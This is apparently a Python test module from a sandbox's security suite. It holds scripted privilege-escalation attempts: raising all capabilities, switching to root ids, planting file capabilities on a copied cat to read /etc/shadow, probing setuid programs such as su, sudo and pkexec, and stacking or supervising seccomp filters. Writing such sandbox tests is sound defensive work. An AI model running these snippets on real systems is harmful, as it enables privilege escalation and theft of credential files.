"""Gaining what was given up: capabilities, other ids, set-id programs, and the filter itself."""

import os
from typing import TYPE_CHECKING, Final

from tests.security.attempts.model import Attempt, Outcome
from tests.security.attempts.snippets import calls, printed, returned

if TYPE_CHECKING:
    from tests.security.attempts.world import World

_NOBODY_HERE: Final = 12_345
_OWNED: Final = "owned-by-another"
_XATTR: Final = "security.capability"

CAPABILITIES: Final = (
    calls("capset", "prctl")
    + """
import socket
VERSION_3, AMBIENT, RAISE, SECUREBITS = 0x20080522, 47, 2, 28
def handler(event):
    every = 0xFFFFFFFF
    tried(
        lambda: call("capset", (ctypes.c_uint32 * 2)(VERSION_3, 0), (ctypes.c_uint32 * 6)(*[every] * 6)),
        lambda: call("prctl", SECUREBITS, 0x2F, 0, 0, 0),
        *(lambda number=number: call("prctl", AMBIENT, RAISE, number, 0, 0) for number in range(41)),
    )
    # an echo request, which only CAP_NET_RAW may send, and the kernel's reply
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        raw.settimeout(2)
        request = bytes([8, 0, 0, 0, 0, 1, 0, 1]) + b"echoed by the kernel"
        total = sum(struct.unpack(f"!{len(request) // 2}H", request))
        total = (total >> 16) + (total & 0xFFFF)
        raw.sendto(request[:2] + struct.pack("!H", ~total & 0xFFFF) + request[4:], ("127.0.0.1", 0))
        while True:
            answer = raw.recv(200)[20:]
            if answer[0] == 0:
                return answer[8:].decode()
"""
)

OTHER_IDS: Final = (
    calls("setresuid", "setresgid", "setgroups", "setfsuid", "fchownat")
    + """
HERE = -100
def handler(event):
    os.close(os.open("/workspace/NAME", os.O_CREAT | os.O_WRONLY))
    for other in (0, 1, 65534, NOBODY):
        tried(lambda: call("fchownat", HERE, b"/workspace/NAME", other, other, 0))
    tried(lambda: call("setgroups", 1, (ctypes.c_uint32 * 1)(0)))
    for other in (0, NOBODY):
        if os.fork() == 0:
            tried(
                lambda: call("setresgid", other, other, other),
                lambda: call("setresuid", other, other, other),
                lambda: call("setfsuid", other),
            )
            tried(lambda: os.close(os.open(f"/workspace/NAME-{other}", os.O_CREAT | os.O_WRONLY)))
            os._exit(0)
        os.wait()
""".replace("NAME", _OWNED).replace("NOBODY", str(_NOBODY_HERE))
)

FILE_CAPABILITIES: Final = (
    calls()
    + """
import shutil, subprocess
def handler(event):
    shutil.copy("/usr/bin/cat", "/workspace/cat")
    subprocess.run(["setcap", "cap_dac_override,cap_sys_admin+ep", "/workspace/cat"])
    every = 0xFFFFFFFF
    for version, owner in ((0x02000001, ()), (0x03000001, (0,)), (0x03000001, (os.getuid(),))):
        value = struct.pack("IIIII", version, every, 0, 0x1FF, 0) + b"".join(struct.pack("I", one) for one in owner)
        tried(lambda: os.setxattr("/workspace/cat", "XATTR", value))
    try:
        done = subprocess.run(["/workspace/cat", event["canary_path"], "/etc/shadow"], capture_output=True, text=True)
        return done.stdout
    except OSError as error:
        return str(error)
""".replace("XATTR", _XATTR)
)

SET_ID_PROGRAMS: Final = """
find /usr -perm /6000 -type f 2>/dev/null > /tmp/found
while read -r program; do
    case "$program" in
        */su) "$program" root -c 'id -u' < /dev/null ;;
        */sudo | */doas | */pkexec) "$program" -n id -u < /dev/null ;;
        */newgrp | */sg) echo 'id -u' | "$program" root ;;
        */mount) "$program" --bind /usr /workspace && echo 0 ;;
    esac
done < /tmp/found
cp /bin/bash copy
for mode in 4755 2755 6755; do
    chown 0:0 copy; chmod "$mode" copy
    ./copy -p -c 'id -u; id -g'
    /lib64/ld-linux-*.so.2 ./copy -p -c 'id -u; id -g'
done
setpriv --reuid=0 --regid=0 --clear-groups id -u
setpriv --no-new-privs --reuid 0 id -u
true
"""

_FILTERS: Final = (
    calls("prctl", "seccomp", "personality", "ioctl")
    + """
import select, threading
SET_SECCOMP, FILTER, NO_NEW_PRIVS = 22, 2, 38
TSYNC, LOG, SPEC_ALLOW, NEW_LISTENER = 1, 2, 4, 8
ALLOW, NOTIFY = 0x7FFF0000, 0x7FC00000
RECEIVE, SEND, CONTINUE, UNAME26 = 0xC0502100, 0xC0182101, 1, 0x20000
def program(*instructions):
    global kept
    body = b"".join(struct.pack("HBBI", *instruction) for instruction in instructions)
    kept = ctypes.create_string_buffer(body), ctypes.create_string_buffer(16)
    struct.pack_into("HxxxxxxQ", kept[1], 0, len(instructions), ctypes.addressof(kept[0]))
    return kept[1]
def allow_all():
    return program((6, 0, 0, ALLOW))
def release_with_old_personality():
    tried(lambda: call("personality", UNAME26))
    return os.uname().release
"""
)

ANOTHER_FILTER: Final = (
    _FILTERS
    + """
def handler(event):
    tried(
        lambda: call("prctl", SET_SECCOMP, 0, 0, 0, 0),
        lambda: call("prctl", NO_NEW_PRIVS, 0, 0, 0, 0),
        lambda: call("prctl", SET_SECCOMP, FILTER, allow_all(), 0, 0),
        *(lambda flags=flags: call("seccomp", 1, flags, allow_all()) for flags in (0, TSYNC, LOG, SPEC_ALLOW)),
    )
    return release_with_old_personality()[:4]
"""
)

FILTER_OF_ANOTHER: Final = (
    _FILTERS
    + """
def supervise(listener):
    # answers each call that it is asked about with: go on
    asked = ctypes.create_string_buffer(80)
    while select.select([listener], [], [], 2)[0]:
        ctypes.memset(asked, 0, 80)
        if not tried(lambda: call("ioctl", listener, RECEIVE, asked)):
            return  # nobody is left who could ask
        call("ioctl", listener, SEND, struct.pack("QqiI", struct.unpack_from("Q", asked)[0], 0, 0, CONTINUE))
def handler(event):
    number = NUMBERS["personality"]
    found, opened, is_open = [], [], threading.Event()
    def ask():
        notify = program((0x20, 0, 0, 0), (0x15, 0, 1, number), (6, 0, 0, NOTIFY), (6, 0, 0, ALLOW))
        opened.append(call("seccomp", 1, NEW_LISTENER, notify))
        is_open.set()
        found.append(release_with_old_personality()[:4])
    thread = threading.Thread(target=ask)
    thread.start()
    is_open.wait(2)
    supervise(opened[0])
    thread.join()
    return found[0]
"""
)


def _owner_is_another(world: "World", _outcome: Outcome) -> bool:
    return any(path.lstat().st_uid != os.getuid() for path in world.workspaces.glob(f"*/{_OWNED}*"))


def _has_file_capabilities(world: "World", outcome: Outcome) -> bool:
    marked = any(_XATTR in os.listxattr(path) for path in world.workspaces.glob("*/cat"))
    return marked or world.leaked(outcome)


ATTEMPTS: Final = (
    Attempt(
        "privileges/capabilities",
        "python",
        CAPABILITIES,
        returned("echoed by the kernel"),
        without=("seccomp", "userns_lock", "capabilities", "second_userns"),
    ),
    Attempt("privileges/other-ids", "python", OTHER_IDS, _owner_is_another, without=("unprivileged",)),
    Attempt(
        "privileges/file-capabilities", "python", FILE_CAPABILITIES, _has_file_capabilities, without=("capabilities",)
    ),
    Attempt(
        "privileges/set-id-programs",
        "shell",
        SET_ID_PROGRAMS,
        printed("0"),
        unproved="bwrap always sets no_new_privs and mounts without set-id, and neither can be taken back",
    ),
    Attempt("privileges/another-filter", "python", ANOTHER_FILTER, returned("2.6."), without=("seccomp",)),
    Attempt("privileges/filter-of-another", "python", FILTER_OF_ANOTHER, returned("2.6."), without=("seccomp",)),
)
